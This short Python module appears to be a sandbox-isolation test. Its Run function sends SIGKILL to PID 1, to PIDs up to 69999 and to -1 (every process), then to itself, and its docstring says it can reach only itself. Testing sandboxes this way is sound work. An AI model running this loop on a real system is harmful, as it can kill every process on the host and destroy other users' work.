"""Sends SIGKILL to everybody it can name. It can name nobody but itself."""
import os
import signal


def Run(engine):
    for pid in [1, 2, *range(3, 70000), -1]:
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
